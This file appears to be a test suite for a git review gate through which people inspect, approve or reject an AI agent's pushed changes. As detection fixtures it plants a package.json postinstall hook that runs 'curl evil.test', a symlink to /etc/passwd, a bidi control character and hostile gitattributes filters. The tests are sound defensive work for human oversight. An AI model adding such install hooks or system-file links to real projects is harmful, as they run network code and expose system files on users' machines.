import { chmod, mkdir, symlink, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { describe, expect, test } from 'vitest';
import { applyApproved, approve, listDecisions, type Review, rejectTask, reviewTask, taskRef } from '../../src/projects/git/index.ts';
import { GitLab, gitIn, mustGit, TAKES_ALL } from './git-harness.ts';

interface Started {
  readonly source: string;
  readonly gate: string;
  readonly clone: string;
  readonly repository: string;
  readonly review: (policy?: unknown) => Promise<Review>;
}

/** A user's repository, a task on it, and the clone that its agent works in. */
async function start(lab: GitLab, init: readonly string[] = []): Promise<Started> {
  const source = await lab.userRepository('shop', init);
  const imported = await lab.import(source, 'shop');
  const clone = await lab.clone(await lab.serve(imported, 'shop', [], { rules: TAKES_ALL }), 'shop');
  const { gate, repository } = imported;
  return { source, gate, clone, repository, review: (policy = {}) => reviewTask({ gate, slug: 'shop', policy }) };
}

async function push(lab: GitLab, clone: string, files: Record<string, string | Buffer>, message = 'Change'): Promise<string> {
  const id = await lab.commit(clone, files, message);
  await mustGit(clone, ['push', '--quiet', '--force']);
  return id;
}

describe('the review of a task', () => {
  test.each(['sha1', 'sha256'])('shows what the change makes run, commits, counts and hidden text (%s)', async (format) => {
    await using lab = await GitLab.create();
    const { clone, review, source } = await start(lab, [`--object-format=${format}`]);
    const old = await mustGit(source, ['rev-parse', 'HEAD']);
    await mkdir(path.join(clone, '.githooks'), { recursive: true });
    await writeFile(path.join(clone, 'tool'), 'x\n');
    await chmod(path.join(clone, 'tool'), 0o755);
    await symlink('/etc/passwd', path.join(clone, 'link'));
    const tip = await push(lab, clone, {
      'package.json': '{"scripts":{"postinstall":"curl evil.test"}}\n',
      'src/a.ts': 'const a = "\u202eb";\n',
      'raw.bin': Buffer.from([0, 1, 2]),
      'README.md': 'hello\nyou\n',
    });
    const seen = await review();
    expect(seen).toMatchObject({ ref: taskRef('shop'), old, new: tip, commitCount: 1, fileCount: 6 });
    expect(seen.tree).toBe(await mustGit(clone, ['rev-parse', 'HEAD^{tree}']));
    expect(seen.surface.findings.map(({ kind, path: file, details }) => [kind, file, ...details])).toEqual([
      ['npm-manifest', 'package.json', '+ scripts.postinstall: curl evil.test'],
      ['symbolic-link', 'link', '→ /etc/passwd'],
      ['executable', 'tool', 'mode 000000 → 100755'],
    ]);
    expect(seen.hidden).toEqual({ hits: [{ path: 'src/a.ts', line: 1, kinds: ['bidi'] }], count: 1, complete: true });
    expect(seen.files.find((file) => file.path === 'README.md')).toEqual({
      path: 'README.md',
      change: 'modified',
      insertions: 1,
      deletions: 0,
    });
    expect(seen.files.find((file) => file.path === 'raw.bin')).toEqual({ path: 'raw.bin', change: 'added' });
    expect((await review()).digest).toBe(seen.digest);
    expect((await review({ other: true })).digest).not.toBe(seen.digest);
  });

  test('is not led astray by attributes, configuration or a replaced object', async () => {
    await using lab = await GitLab.create();
    const { clone, review, repository } = await start(lab);
    await push(lab, clone, { '.gitattributes': '* -diff\n*.ts diff=evil filter=evil\n', 'a.ts': 'x\u200by\n' });
    const seen = await review();
    expect(seen.hidden.count).toBe(1);
    const empty = await mustGit(repository, ['commit-tree', '-m', 'Nothing', '4b825dc642cb6eb9a060e54bf8d69288fbee4904']);
    await mustGit(repository, ['update-ref', `refs/replace/${seen.new}`, empty]);
    // Positive control: git itself shows the replacement
    expect(await mustGit(repository, ['ls-tree', seen.new])).toBe('');
    expect((await review()).digest).toBe(seen.digest);
  });
});

describe('an approval', () => {
  test('lets exactly the reviewed commit through, once', async () => {
    await using lab = await GitLab.create();
    const { clone, review, gate, source } = await start(lab);
    const tip = await push(lab, clone, { 'a.txt': 'a\n' });
    const seen = await review();
    await expect(applyApproved({ gate, review: seen, agreed: false }, source)).rejects.toMatchObject({
      code: 'REFUSED',
      message: expect.stringContaining('nobody approved it'),
    });
    await approve(gate, seen);
    await applyApproved({ gate, review: await review(), agreed: false }, source);
    expect(await mustGit(source, ['rev-parse', 'terok/shop'])).toBe(tip);
    await expect(applyApproved({ gate, review: await review(), agreed: false }, source)).rejects.toMatchObject({ code: 'REFUSED' });
    expect(await listDecisions(gate, 'shop')).toMatchObject([
      {
        kind: 'approval',
        ref: taskRef('shop'),
        old: seen.old,
        new: tip,
        tree: seen.tree,
        review: seen.digest,
        shown: { commits: 1, files: 1 },
        use: { state: 'done', target: { kind: 'repository', name: source, ref: taskRef('shop') } },
      },
    ]);
  });

  test('does not fit after the tip was swapped', async () => {
    await using lab = await GitLab.create();
    const { clone, review, gate, source } = await start(lab);
    await push(lab, clone, { 'a.txt': 'good\n' });
    await approve(gate, await review());
    await push(lab, clone, { 'a.txt': 'evil\n' });
    await expect(applyApproved({ gate, review: await review(), agreed: false }, source)).rejects.toMatchObject({
      code: 'REFUSED',
      message: expect.stringContaining('the branch moved'),
    });
    expect((await gitIn(source, ['rev-parse', '--verify', 'terok/shop'])).code).not.toBe(0);
  });

  test('of what a person saw does not cover what came after, also where the same process agrees', async () => {
    await using lab = await GitLab.create();
    const { clone, review, gate, source } = await start(lab);
    await push(lab, clone, { 'a.txt': 'good\n' });
    const seen = await review();
    await push(lab, clone, { 'a.txt': 'evil\n' });
    await expect(applyApproved({ gate, review: seen, agreed: true }, source)).rejects.toMatchObject({
      message: expect.stringContaining('moved'),
    });
    expect((await gitIn(source, ['rev-parse', '--verify', 'terok/shop'])).code).not.toBe(0);
  });

  test('ends after a day, with a changed policy, and with a rejection', async () => {
    await using lab = await GitLab.create();
    const { clone, review, gate, source } = await start(lab);
    await push(lab, clone, { 'a.txt': 'a\n' });
    await approve(gate, await review(), new Date(Date.now() - 25 * 60 * 60_000));
    await expect(applyApproved({ gate, review: await review(), agreed: false }, source)).rejects.toMatchObject({
      message: expect.stringContaining('ended at'),
    });
    await approve(gate, await review({ routes: [] }));
    await expect(applyApproved({ gate, review: await review({ routes: ['more'] }), agreed: false }, source)).rejects.toMatchObject({
      message: expect.stringContaining('the policy of the task'),
    });
    await approve(gate, await review());
    await rejectTask({ gate, slug: 'shop', message: 'No' });
    await expect(applyApproved({ gate, review: await review(), agreed: false }, source)).rejects.toMatchObject({ code: 'REFUSED' });
  });

  test('is used by one of many that apply at once', async () => {
    await using lab = await GitLab.create();
    const { clone, review, gate, source } = await start(lab);
    await push(lab, clone, { 'a.txt': 'a\n' });
    const seen = await review();
    await approve(gate, seen);
    const results = await Promise.allSettled(Array.from({ length: 6 }, () => applyApproved({ gate, review: seen, agreed: false }, source)));
    expect(results.filter(({ status }) => status === 'fulfilled')).toHaveLength(1);
  });

  test('survives a race with an agent that swaps the tip all the time: only reviewed commits arrive', async () => {
    await using lab = await GitLab.create();
    const { clone, review, gate, source, repository } = await start(lab);
    const tips: string[] = [];
    for (const name of ['one', 'two', 'three']) tips.push(await push(lab, clone, { [`${name}.txt`]: name }));
    let swapping = true;
    const swapper = (async () => {
      for (let round = 0; swapping; round += 1) await mustGit(repository, ['update-ref', taskRef('shop'), tips[round % 3] ?? '']);
    })();
    const outcomes = { taken: 0, refused: 0 };
    for (let round = 0; round < 25; round += 1) {
      const seen = await review();
      await gitIn(source, ['update-ref', '-d', 'refs/heads/terok/shop']);
      const result = await applyApproved({ gate, review: seen, agreed: true }, source).then(
        () => 'taken' as const,
        (error: unknown) => {
          expect(error).toMatchObject({ code: 'REFUSED' });
          return 'refused' as const;
        },
      );
      outcomes[result] += 1;
      const arrived = await gitIn(source, ['rev-parse', '--quiet', '--verify', 'refs/heads/terok/shop']);
      expect(arrived.stdout.trim()).toBe(result === 'taken' ? seen.new : '');
    }
    swapping = false;
    await swapper;
    expect(outcomes.taken + outcomes.refused).toBe(25);
    expect(outcomes.refused).toBeGreaterThan(0);
  }, 120_000);

  test('that could not be used is kept: the branch of the user is checked out', async () => {
    await using lab = await GitLab.create();
    const { clone, review, gate, source } = await start(lab);
    await push(lab, clone, { 'a.txt': 'a\n' });
    await mustGit(source, ['switch', '--quiet', '-c', 'terok/shop']);
    await approve(gate, await review());
    await expect(applyApproved({ gate, review: await review(), agreed: false }, source)).rejects.toMatchObject({
      message: expect.stringContaining('checked out'),
    });
    await mustGit(source, ['switch', '--quiet', 'main']);
    await applyApproved({ gate, review: await review(), agreed: false }, source);
  });
});

describe('a rejection', () => {
  test('reaches the agent as a note that it can fetch', async () => {
    await using lab = await GitLab.create();
    const { clone, gate } = await start(lab);
    const tip = await push(lab, clone, { 'a.txt': 'a\n' });
    await rejectTask({ gate, slug: 'shop', message: 'Use the price list.\nNot \u001b[31mthis\u202e.' });
    await mustGit(clone, ['fetch', '--quiet', 'origin', 'refs/notes/review:refs/notes/review']);
    expect(await mustGit(clone, ['notes', '--ref=review', 'show', tip])).toBe(
      'Not taken: Use the price list.\nNot \\u{1b}[31mthis\\u{202e}.',
    );
    await lab.commit(clone, { 'b.txt': 'b\n' }, 'Again');
    const next = await gitIn(clone, ['push']);
    expect(next.stderr).toMatch(/^remote: terok: [0-9a-f]{12} was not taken: Use the price list\.\s*$/m);
    expect(next.stderr).not.toContain('\u001b');
    await lab.commit(clone, { 'c.txt': 'c\n' }, 'And again');
    expect((await gitIn(clone, ['push'])).stderr).not.toContain('price list');
    expect((await gitIn(clone, ['push', 'origin', 'HEAD:refs/notes/review'])).code).not.toBe(0);
    expect(await listDecisions(gate, 'shop')).toMatchObject([{ kind: 'rejection', new: tip }]);
  });
});
